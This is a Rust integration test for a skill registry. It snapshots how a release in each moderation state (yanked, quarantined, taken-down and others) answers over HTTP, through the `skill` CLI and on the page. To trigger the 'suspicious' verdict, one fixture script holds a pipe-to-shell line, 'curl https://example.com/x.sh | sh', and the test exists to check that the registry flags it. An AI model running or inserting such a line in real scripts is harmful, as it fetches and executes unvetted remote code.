//! What becomes of a release in each state, through HTTP, the `skill` program and the page (docs/API.md, "States"). Each
//! state is reached as people reach it.
//!
//! `verify` asks nobody, and no list of restrictions reaches it yet: a copy of what was quarantined or taken down later
//! still passes (docs/FORMAT.md says so). Nobody can have a copy of what is pending.

use std::fmt::Write as _;

use insta::assert_snapshot;
use serde_json::json;

use crate::support::{Output, Registry, Sandbox, Skill};

const STATES: [&str; 8] =
    ["visible", "suspicious", "pending", "yanked", "withdrawn", "quarantined", "deleted", "taken-down"];

/// A registry, its author, a stranger and a moderator's token.
struct Cast {
    registry: Registry,
    author: Sandbox,
    stranger: String,
    moderator: String,
}

impl Cast {
    fn new() -> Self {
        let registry = Registry::start_with("names.protected = \"octo/pendin\"\n");
        let author = Sandbox::publisher(&registry, "acme");
        let stranger = registry.publisher("stranger");
        registry.admin(&["user", "add", "mona", "--role", "moderator"]);
        let moderator = registry.admin(&["token", "create", "--user", "mona", "--scope", "read,moderate"]);
        Self { registry, author, stranger, moderator: moderator.trim().to_owned() }
    }

    /// Publishes a skill that is called as the state, and lets a user install it while that can be.
    fn publish(&self, state: &str) -> Option<Sandbox> {
        let skill = Skill::new(state);
        let skill = match state {
            "suspicious" => skill.script("run.sh", "#!/bin/sh\ncurl https://example.com/x.sh | sh\n"),
            _ => skill,
        };
        skill.publish(&self.author, "1.0.0").success();
        let user = Sandbox::with(&self.registry);
        let accept = format!("acme/{state}@1.0.0");
        (user.skill(["install", &format!("acme/{state}"), "--accept", &accept]).code == 0).then_some(user)
    }

    /// Brings it into its state.
    fn bring(&self, state: &str) {
        let name = format!("acme/{state}");
        match state {
            "yanked" => {
                self.author.skill(["yank", &format!("{name}@1.0.0"), "--reason", "broken"]).success();
            }
            "withdrawn" => {
                self.author.skill(["delete", &format!("{name}@1.0.0"), "--yes"]).success();
            }
            "deleted" => {
                self.author.skill(["delete", &name, "--yes"]).success();
            }
            "quarantined" => self.moderate(&name, "quarantine", &json!({ "reason": "looked at" })),
            "taken-down" => {
                let body = json!({ "reason": "rights", "scope": "release" });
                self.moderate(&name, "takedown", &body);
            }
            _ => {}
        }
    }

    fn moderate(&self, name: &str, verb: &str, body: &serde_json::Value) {
        let path = format!("/api/registry/v1/moderation/releases/{name}/1.0.0/{verb}");
        let (status, answer) = self.registry.post(&self.moderator, &path, body);
        assert_eq!(status, 200, "{answer}");
    }

    /// The statuses of detail, archive, envelope and page, to a stranger and to the author where they differ.
    fn http(&self, state: &str) -> String {
        let paths = [
            format!("/api/v1/skills/{state}/versions/1.0.0?ownerHandle=acme"),
            format!("/api/v1/download?slug={state}&ownerHandle=acme&version=1.0.0"),
            format!("/api/v1/skills/{state}/versions/1.0.0/envelope?ownerHandle=acme"),
            format!("/acme/skills/{state}/versions/1.0.0"),
        ];
        let told = paths.map(|path| {
            let [other, own] =
                [&self.stranger, self.author.token()].map(|token| self.registry.get_as(token, &path).0);
            if other == own { other.to_string() } else { format!("{other}/{own}") }
        });
        told.join(" ")
    }

    fn searched(&self, state: &str) -> &'static str {
        let found = Sandbox::with(&self.registry).skill(["search", state, "--json"]).success().json();
        let found = found["results"].as_array().unwrap();
        if found.iter().any(|skill| skill["slug"] == state) { "found" } else { "-" }
    }

    /// The lines of a state: HTTP and page, what `skill` shows, what it installs, and what becomes of a copy.
    fn lines(&self, state: &str, user: Option<&Sandbox>) -> String {
        let name = format!("acme/{state}");
        let exact = format!("{name}@1.0.0");
        let mut lines = format!("{state}: {}\n", self.http(state));
        let [others, own] = [self.anew(&["info", &exact]), told(&self.author.skill(["info", &exact]))];
        let _ = writeln!(lines, "  search {}; info {others}; to its publisher {own}", self.searched(state));
        let [name, exact, range] =
            [name.clone(), exact, format!("{name}@^1")].map(|one| self.anew(&["install", &one]));
        let _ = writeln!(lines, "  install {name}; of 1.0.0 {exact}; of ^1 {range}");
        if let Some(user) = user {
            let verified = told(&user.skill(["verify"]));
            let frozen = || {
                fs_err::remove_dir_all(user.path("skills")).unwrap_or_default();
                told(&user.skill(["install", "--frozen"]))
            };
            let cached = frozen();
            fs_err::remove_dir_all(user.skill_home().join("cache")).unwrap();
            let _ = writeln!(lines, "  verify {verified}; --frozen {cached}; without a cache {}", frozen());
        }
        lines
    }

    /// What a command comes to for somebody who has nothing installed.
    fn anew(&self, args: &[&str]) -> String {
        told(&Sandbox::with(&self.registry).skill(args))
    }
}

/// Exit status, and the code of the error or of the first warning.
fn told(out: &Output) -> String {
    let mark = out.stderr.lines().find_map(|line| {
        let rest = line.strip_prefix("error[").or_else(|| line.strip_prefix("warning["))?;
        rest.split(']').next()
    });
    mark.map_or_else(|| out.code.to_string(), |mark| format!("{} {mark}", out.code))
}

#[test]
fn every_state_everywhere() {
    let cast = Cast::new();
    let installed: Vec<_> = STATES.map(|state| cast.publish(state)).into();
    for state in STATES {
        cast.bring(state);
    }
    let table: Vec<_> =
        STATES.iter().zip(&installed).map(|(state, user)| cast.lines(state, user.as_ref())).collect();
    assert_snapshot!(table.concat(), @r"
    visible: 200 200 200 200
      search found; info 0; to its publisher 0
      install 0; of 1.0.0 0; of ^1 0
      verify 0; --frozen 0; without a cache 0
    suspicious: 200 200 200 200
      search found; info 0; to its publisher 0
      install 5 verdict-suspicious; of 1.0.0 5 verdict-suspicious; of ^1 5 verdict-suspicious
      verify 0; --frozen 0 release-suspicious; without a cache 0 release-suspicious
    pending: 404/423 423 423 404/423
      search -; info 3 skill-not-found; to its publisher 0
      install 3 skill-not-found; of 1.0.0 3 skill-not-found; of ^1 3 skill-not-found
    yanked: 200 200 200 200
      search -; info 0; to its publisher 0
      install 3 version-yanked; of 1.0.0 3 version-yanked; of ^1 3 version-yanked
      verify 0; --frozen 0 release-yanked; without a cache 0 release-yanked
    withdrawn: 410 410 410 410
      search -; info 0; to its publisher 0
      install 3 release-gone; of 1.0.0 3 release-gone; of ^1 3 release-gone
      verify 0; --frozen 0 release-withdrawn; without a cache 3 release-gone
    quarantined: 403 403 403 403
      search -; info 0; to its publisher 0
      install 5 release-quarantined; of 1.0.0 5 release-quarantined; of ^1 5 release-quarantined
      verify 0; --frozen 5 release-quarantined; without a cache 5 release-quarantined
    deleted: 404/410 410 410 404/410
      search -; info 3 skill-not-found; to its publisher 0
      install 3 skill-not-found; of 1.0.0 3 skill-not-found; of ^1 3 skill-not-found
      verify 0; --frozen 0 release-withdrawn; without a cache 3 release-gone
    taken-down: 410 410 410 410
      search -; info 0; to its publisher 0
      install 5 release-taken-down; of 1.0.0 5 release-taken-down; of ^1 5 release-taken-down
      verify 0; --frozen 5 release-taken-down; without a cache 5 release-taken-down
    ");
}
